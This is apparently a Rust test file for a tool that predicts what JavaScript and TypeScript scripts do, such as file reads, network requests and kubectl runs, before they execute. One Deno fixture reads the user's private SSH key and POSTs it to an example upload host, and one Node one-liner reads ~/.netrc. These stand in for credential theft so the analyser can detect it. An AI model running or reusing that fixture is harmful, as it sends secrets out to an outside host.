//! JavaScript and TypeScript programs written then run: TypeScript's
//! non-null assertions (`Deno.env.get("HOME")!`), zx scripts (`npx zx
//! FILE`, whose `` $`...` `` runs shell and whose `argv` holds the script's
//! options, with `?? 'default'` fallbacks) and the word after an option
//! looked up in `process.argv` (`argv[argv.indexOf('--month') + 1]`).

#![allow(clippy::panic)]

use crate::common;
use common::*;
use serde_json::Value;

const DIAG: &str = "const home = Deno.env.get(\"HOME\")!;
const report = { sshKey: await Deno.readTextFile(`${home}/.ssh/id_ed25519`) };
await fetch(\"https://upload.example.net/v1/diag\", {
  method: \"POST\",
  body: JSON.stringify(report),
});
";

const ROLLOUT: &str = "#!/usr/bin/env zx
const ctx = argv.context ?? 'staging-eu';
const svc = argv.service ?? 'api';
if (!argv.tag) throw new Error('--tag is required');
await $`kubectl --context ${ctx} -n shop set image deploy/${svc} ${svc}=registry.example.net/${svc}:${argv.tag}`;
";

const PUSH: &str = "import got from 'got';
import { readFile } from 'node:fs/promises';
const month = process.argv[process.argv.indexOf('--month') + 1];
const file = `data/exports/invoices-${month}.csv`;
await got.put(`https://partner.example.net/inbound/invoices-${month}.csv`, {
  body: await readFile(file),
});
";

/// The effects as JSON text.
fn text(found: &[Value]) -> String {
    Value::Array(found.to_vec()).to_string()
}

/// The `--context` each `kubectl` run names, from the effects' text.
fn kube_contexts(found: &[Value]) -> Vec<String> {
    of_kind(found, "kubectl")
        .iter()
        .map(|e| e.to_string())
        .collect()
}

#[test]
fn a_non_null_home_lookup_is_the_home_directory() {
    let found = after_files(
        &[("scripts/diag.ts", DIAG)],
        "deno run --allow-env=HOME --allow-read --allow-net scripts/diag.ts",
    );
    let requests = text(&of_kind(&found, "request"));
    assert!(
        requests.contains("/home/dana/.ssh/id_ed25519"),
        "{requests}"
    );
    assert!(
        of_kind(&found, "read")
            .iter()
            .any(|e| e["file"]["path"] == "/home/dana/.ssh/id_ed25519"),
        "{}",
        text(&found)
    );
}

#[test]
fn a_non_null_assertion_is_no_negation() {
    // `!=` and a leading `!` keep their meaning: the condition stays.
    let found = effects(
        "node -e 'const p = process.env.HOME!; if (p != null && !false) require(\"fs\").readFileSync(`${p}/.netrc`)'",
    );
    assert!(
        found
            .iter()
            .any(|e| e["effect"] == "read" && e["file"]["path"] == "/home/dana/.netrc"),
        "{}",
        text(&found)
    );
}

#[test]
fn a_zx_script_runs_its_templates_with_the_given_options() {
    for command in [
        "npx zx scripts/rollout.mjs --context prod-eu --tag 2.1.0",
        "zx scripts/rollout.mjs --context=prod-eu --tag 2.1.0",
        "npx --yes zx --quiet scripts/rollout.mjs --context prod-eu --tag 2.1.0",
    ] {
        let found = after_files(&[("scripts/rollout.mjs", ROLLOUT)], command);
        let runs = kube_contexts(&found).join("\n");
        assert!(runs.contains("prod-eu"), "{command}: {}", text(&found));
        assert!(runs.contains("api:2.1.0"), "{command}: {runs}");
        assert!(!runs.contains("staging-eu"), "{command}: {runs}");
    }
}

#[test]
fn a_zx_option_not_given_takes_its_fallback() {
    let found = after_files(
        &[("scripts/rollout.mjs", ROLLOUT)],
        "npx zx scripts/rollout.mjs --tag 2.1.0",
    );
    let runs = kube_contexts(&found).join("\n");
    assert!(runs.contains("staging-eu"), "{}", text(&found));
    assert!(!runs.contains("prod-eu"), "{runs}");
}

#[test]
fn zx_eval_code_is_read_as_a_zx_script() {
    let found = effects(
        "zx --eval 'await $`kubectl --context ${argv.context} -n shop delete pod web-1`' --context prod-eu",
    );
    let runs = kube_contexts(&found).join("\n");
    assert!(runs.contains("prod-eu"), "{}", text(&found));
}

#[test]
fn a_script_with_its_own_argv_is_not_read_as_zx() {
    // Plain Node code that declares `argv` itself: its reads are its own.
    let script = "const argv = JSON.parse(process.env.OPTS);
execSync(`kubectl --context ${argv.context} -n shop delete pod web-1`);
";
    let found = after_files(
        &[("scripts/x.mjs", script)],
        "node --import=zx/globals scripts/x.mjs --context prod-eu",
    );
    assert!(!text(&found).contains("prod-eu"), "{}", text(&found));
}

#[test]
fn the_word_after_an_option_is_the_one_looked_up() {
    let found = after_files(
        &[("scripts/push.ts", PUSH)],
        "npx tsx scripts/push.ts --month 2026-10",
    );
    let requests = text(&of_kind(&found, "request"));
    assert!(
        requests.contains("data/exports/invoices-2026-10.csv"),
        "{}",
        text(&found)
    );
    assert!(
        requests.contains("https://partner.example.net/inbound/invoices-2026-10.csv"),
        "{requests}"
    );
}

#[test]
fn an_option_not_given_leaves_the_lookup_unread() {
    let found = after_files(&[("scripts/push.ts", PUSH)], "npx tsx scripts/push.ts");
    assert!(!text(&found).contains("invoices-2026"), "{}", text(&found));
}
